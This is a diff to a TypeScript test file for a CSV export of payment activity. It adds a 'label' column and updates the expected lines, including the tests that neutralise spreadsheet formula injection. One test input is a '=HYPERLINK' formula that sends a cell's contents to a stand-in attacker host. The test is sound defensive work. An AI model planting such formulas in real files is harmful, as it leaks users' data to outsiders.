@@ -26,7 +26,7 @@ const sent: ExportedActivity = {
 
 test('a payment in one line, in UTC, every amount as plain digits', () => {
   expect(csvLines([sent])).toBe(
-    `2026-11-21T04:05:06.007Z,sent,COMPLETED,https://shop.example,bob@pay.example,0.10,USD,200000,12,${TXID},812345,${sent.id},article-7,,,\r\n`,
+    `2026-11-21T04:05:06.007Z,sent,COMPLETED,https://shop.example,bob@pay.example,0.10,USD,200000,12,${TXID},812345,${sent.id},article-7,,,,\r\n`,
   );
 });
 
@@ -45,7 +45,7 @@ test('money received, not confirmed: what it has not is empty', () => {
     recipients: [{ to: 'mAddress', satoshis: '5' }],
     satoshis: '5',
   };
-  expect(csvLines([received])).toBe(`2026-11-21T04:05:06.007Z,received,RECEIVED,,mAddress,,,5,,${TXID},,,,,,\r\n`);
+  expect(csvLines([received])).toBe(`2026-11-21T04:05:06.007Z,received,RECEIVED,,mAddress,,,5,,${TXID},,,,,,,\r\n`);
 });
 
 test('shows who paid by paymail, whether their host confirms it, and the note', () => {
@@ -55,10 +55,10 @@ test('shows who paid by paymail, whether their host confirms it, and the note', 
     sender: { paymail: 'bob@two.example', verified: true },
     note: 'for lunch, thanks\n=1+1',
   };
-  expect(csvLines([received]).endsWith(`,bob@two.example,yes,"for lunch, thanks\n'=1+1"\r\n`)).toBe(true);
+  expect(csvLines([received]).endsWith(`,bob@two.example,yes,"for lunch, thanks\n'=1+1",\r\n`)).toBe(true);
   expect(
     csvLines([{ ...received, sender: { paymail: '=1@two.example', verified: false }, note: '+1' }]).endsWith(
-      `,'=1@two.example,no,'+1\r\n`,
+      `,'=1@two.example,no,'+1,\r\n`,
     ),
   ).toBe(true);
 });
@@ -73,7 +73,7 @@ test('several recipients, each with what it got', () => {
 
 test('the file begins with a byte order mark and the names of the columns', () => {
   expect(CSV_START).toBe(
-    '\uFEFFtime,direction,status,site,recipients,amount,currency,satoshis,fee satoshis,txid,block height,payment id,button id,sender,sender verified,note\r\n',
+    '\uFEFFtime,direction,status,site,recipients,amount,currency,satoshis,fee satoshis,txid,block height,payment id,button id,sender,sender verified,note,label\r\n',
   );
 });
 
@@ -86,7 +86,7 @@ test.each([
   ['żółć 💸', 'żółć 💸'],
   ['', ''],
 ])('RFC 4180: %j becomes %j', (buttonId, cell) => {
-  expect(csvLines([{ ...sent, buttonId }]).endsWith(`,${cell},,,\r\n`)).toBe(true);
+  expect(csvLines([{ ...sent, buttonId }]).endsWith(`,${cell},,,,\r\n`)).toBe(true);
 });
 
 test.each([
@@ -102,7 +102,7 @@ test.each([
   '=HYPERLINK("https://evil.example?"&A1,"x")',
 ])('a formula is made text: %j', (buttonId) => {
   const [, cell = ''] =
-    /article-0,(.*)$/s.exec(csvLines([{ ...sent, id: 'article-0', buttonId }]).replace(/,,,\r\n$/, '')) ?? [];
+    /article-0,(.*)$/s.exec(csvLines([{ ...sent, id: 'article-0', buttonId }]).replace(/,,,,\r\n$/, '')) ?? [];
   expect(cell.replace(/^"/, '').startsWith(`'${buttonId[0]}`)).toBe(true);
 });
 
